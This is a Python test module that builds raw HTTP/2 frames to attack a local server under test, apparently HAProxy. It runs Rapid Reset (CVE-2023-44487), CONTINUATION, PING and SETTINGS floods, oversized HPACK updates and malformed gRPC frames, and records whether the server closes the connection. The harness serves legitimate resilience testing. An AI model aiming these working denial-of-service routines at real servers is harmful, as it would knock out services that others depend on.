"""HTTP/2 abuse on raw sockets, frame by frame (the `h2` library builds the frames).

Every attack is bounded by a frame count and a deadline, talks only to the address it is given
(127.0.0.1 and a port the suite published), and reports what the server did: whether and when
it closed the connection (GOAWAY or EOF), and how many frames went out before.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import hpack
import hyperframe.frame

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream_id & 0x7FFFFFFF)
        + payload
    )


@dataclass
class Outcome:
    """What one attacking connection saw."""

    sent: int = 0  # attack units sent (pairs, frames)
    closed_by_server: bool = False
    goaway: bool = False
    goaway_error: int | None = None
    seconds_to_close: float | None = None
    statuses: list[int] = field(default_factory=list)
    resets: int = 0  # RST_STREAM frames from the server (a stream refused without an answer)
    # The server stopped reading (its window or buffers full, a write blocked for 1 s): it
    # pushes back instead of queueing without bound.
    stalled: bool = False


class RawH2:
    """A client connection that writes whatever frames it is told and watches for the end."""

    def __init__(self, host: str, port: int, timeout: float = 1.0) -> None:
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.conn.initiate_connection()
        self.sock.sendall(self.conn.data_to_send())
        self.started = time.monotonic()
        self.outcome = Outcome()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.inbox = bytearray()
        self.header_block = bytearray()

    def headers_block(
        self,
        authority: str,
        path: str,
        extra: list[tuple[str, str]] | None = None,
        method: str = "POST",
    ) -> bytes:
        headers = [
            (":method", method),
            (":scheme", "http"),
            (":authority", authority),
            (":path", path),
        ] + (extra or [])
        return self.encoder.encode(headers)

    def send(self, data: bytes) -> bool:
        """False once the server has closed the connection."""
        if self.outcome.closed_by_server:
            return False
        try:
            self.sock.sendall(data)
        except TimeoutError:
            self.outcome.stalled = True
            return False
        except OSError:
            self._closed()
            return False
        return True

    def _closed(self) -> None:
        if not self.outcome.closed_by_server:
            self.outcome.closed_by_server = True
            self.outcome.seconds_to_close = round(time.monotonic() - self.started, 3)

    def drain(self, wait: float = 0.0) -> None:
        """Read what the server sent (GOAWAY, responses, EOF), blocking at most `wait`.

        Frames are parsed here (hyperframe, HPACK decoding in order), not by h2's state
        machine: the attacks write frames h2 would refuse to track, and h2 answers what it
        cannot track with a GOAWAY of its own."""
        self.sock.settimeout(wait if wait > 0 else 0.0)
        try:
            while True:
                try:
                    data = self.sock.recv(1 << 16)
                except (BlockingIOError, TimeoutError):
                    return
                except OSError:
                    self._closed()
                    return
                if not data:
                    self._closed()
                    return
                self.inbox += data
                self._parse()
        finally:
            self.sock.settimeout(1.0)

    def _parse(self) -> None:
        while len(self.inbox) >= 9:
            header, length = hyperframe.frame.Frame.parse_frame_header(memoryview(self.inbox[:9]))
            if len(self.inbox) < 9 + length:
                return
            body = bytes(self.inbox[9 : 9 + length])
            del self.inbox[: 9 + length]
            if isinstance(header, hyperframe.frame.GoAwayFrame):
                header.parse_body(memoryview(body))
                self.outcome.goaway = True
                self.outcome.goaway_error = int(header.error_code)
            elif isinstance(
                header, (hyperframe.frame.HeadersFrame, hyperframe.frame.ContinuationFrame)
            ):
                header.parse_body(memoryview(body))
                self.header_block += header.data
                if "END_HEADERS" in header.flags:
                    block, self.header_block = bytes(self.header_block), bytearray()
                    try:
                        headers = self.decoder.decode(block)
                    except hpack.HPACKError:
                        continue
                    for name, value in headers:
                        if name in (":status", b":status"):
                            self.outcome.statuses.append(int(value))
            elif isinstance(header, hyperframe.frame.RstStreamFrame):
                self.outcome.resets += 1
            elif isinstance(header, hyperframe.frame.SettingsFrame) and "ACK" not in header.flags:
                self.send(frame(SETTINGS, 0x1, 0))

    def wait_closed(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        while not self.outcome.closed_by_server and time.monotonic() < end:
            self.drain(wait=min(0.2, max(0.01, end - time.monotonic())))

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def rapid_reset(
    host: str, port: int, authority: str, path: str, pairs: int, deadline: float, batch: int = 50
) -> Outcome:
    """HEADERS then RST_STREAM(CANCEL) on each new stream, `pairs` times (CVE-2023-44487)."""
    c = RawH2(host, port)
    extra = [("content-type", "application/grpc"), ("te", "trailers")]
    stream_id = 1
    try:
        while c.outcome.sent < pairs and time.monotonic() < deadline:
            chunk = bytearray()
            for _ in range(batch):
                chunk += frame(
                    HEADERS, END_HEADERS, stream_id, c.headers_block(authority, path, extra)
                )
                chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                stream_id += 2
            if not c.send(bytes(chunk)):
                break
            c.outcome.sent += batch
            c.drain()
        c.wait_closed(2.0)
        return c.outcome
    finally:
        c.close()


def continuation_flood(
    host: str, port: int, authority: str, path: str, frames: int, deadline: float, batch: int = 200
) -> Outcome:
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    c = RawH2(host, port)
    try:
        c.send(frame(HEADERS, 0, 1, c.headers_block(authority, path)))
        piece = hpack.Encoder().encode([("x-pad", "a" * 8)])
        while c.outcome.sent < frames and time.monotonic() < deadline:
            if not c.send(frame(CONTINUATION, 0, 1, piece) * batch):
                break
            c.outcome.sent += batch
            c.drain()
        c.wait_closed(2.0)
        return c.outcome
    finally:
        c.close()


def ping_flood(host: str, port: int, frames: int, deadline: float, batch: int = 500) -> Outcome:
    """PING frames as fast as they go, never reading the ACKs (HAProxy must not queue them
    without bound)."""
    c = RawH2(host, port)
    try:
        payload = frame(PING, 0, 0, b"8bytes!!") * batch
        while c.outcome.sent < frames and time.monotonic() < deadline:
            if not c.send(payload):
                break
            c.outcome.sent += batch
        c.wait_closed(1.0)
        return c.outcome
    finally:
        c.close()


def settings_flood(host: str, port: int, frames: int, deadline: float, batch: int = 500) -> Outcome:
    """SETTINGS frames (each demands an ACK), many parameters each, never reading the ACKs."""
    c = RawH2(host, port)
    try:
        params = b"".join(struct.pack(">HI", 0x3, 100) for _ in range(50))  # MAX_CONCURRENT_STREAMS
        payload = frame(SETTINGS, 0, 0, params) * batch
        while c.outcome.sent < frames and time.monotonic() < deadline:
            if not c.send(payload):
                break
            c.outcome.sent += batch
        c.wait_closed(1.0)
        return c.outcome
    finally:
        c.close()


def hpack_oversized(
    host: str, port: int, authority: str, path: str, requests: int, deadline: float
) -> Outcome:
    """Header blocks that try to grow HPACK's dynamic table past what was agreed: a table size
    update to 2^30 (a COMPRESSION_ERROR), then, on new connections, headers whose values fill
    more than the request buffer, each to be indexed."""
    first = RawH2(host, port)
    try:
        # Dynamic table size update (001xxxxx) to 2^30, far above SETTINGS_HEADER_TABLE_SIZE.
        size_update = hpack.hpack.encode_integer(1 << 30, 5)
        size_update[0] |= 0x20
        block = bytes(size_update) + first.headers_block(authority, path)
        first.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        first.wait_closed(2.0)
        outcome = first.outcome
        outcome.sent = 1
    finally:
        first.close()
    # Large indexed literals: each request asks the decoder to keep 60 KB of headers.
    sent = 0
    while sent < requests and time.monotonic() < deadline:
        c = RawH2(host, port)
        try:
            big = [(f"x-big-{i}", "v" * 4000) for i in range(15)]
            c.send(
                frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    1,
                    c.encoder.encode(
                        [
                            (":method", "GET"),
                            (":scheme", "http"),
                            (":authority", authority),
                            (":path", path),
                            *big,
                        ]
                    ),
                )
            )
            c.wait_closed(1.0)
            c.drain(0.2)
            outcome.statuses += c.outcome.statuses
        finally:
            c.close()
        sent += 1
    outcome.sent += sent
    return outcome


def grpc_broken_frames(
    host: str, port: int, authority: str, path: str, rounds: int, deadline: float
) -> Outcome:
    """gRPC calls whose frames are broken: a length prefix promising 1 GiB with 5 bytes sent,
    the compressed flag without an encoding, DATA on a stream never opened, a frame longer than
    SETTINGS_MAX_FRAME_SIZE, a HEADERS frame on an even (server-initiated) stream id."""
    total = Outcome()
    grpc_headers = [("content-type", "application/grpc"), ("te", "trailers")]
    for _ in range(rounds):
        if time.monotonic() > deadline:
            break
        c = RawH2(host, port)
        try:
            block = c.headers_block(authority, path, grpc_headers)
            c.send(frame(HEADERS, END_HEADERS, 1, block))
            c.send(frame(DATA, END_STREAM, 1, b"\x00" + struct.pack(">I", 1 << 30) + b"abcde"))
            block = c.headers_block(authority, path, grpc_headers)
            c.send(frame(HEADERS, END_HEADERS, 3, block))
            c.send(frame(DATA, END_STREAM, 3, b"\x01" + struct.pack(">I", 5) + b"\xff" * 5))
            c.wait_closed(0.5)
            c.drain(0.5)
            c.send(frame(DATA, 0, 101, b"x" * 10))  # stream never opened
            c.send(frame(DATA, 0, 5, b"y" * 20000))  # longer than 16384
            c.send(frame(HEADERS, END_HEADERS, 8, block))  # even stream id
            c.wait_closed(2.0)
            total.statuses += c.outcome.statuses
            total.closed_by_server = total.closed_by_server or c.outcome.closed_by_server
            total.sent += 1
        finally:
            c.close()
    return total
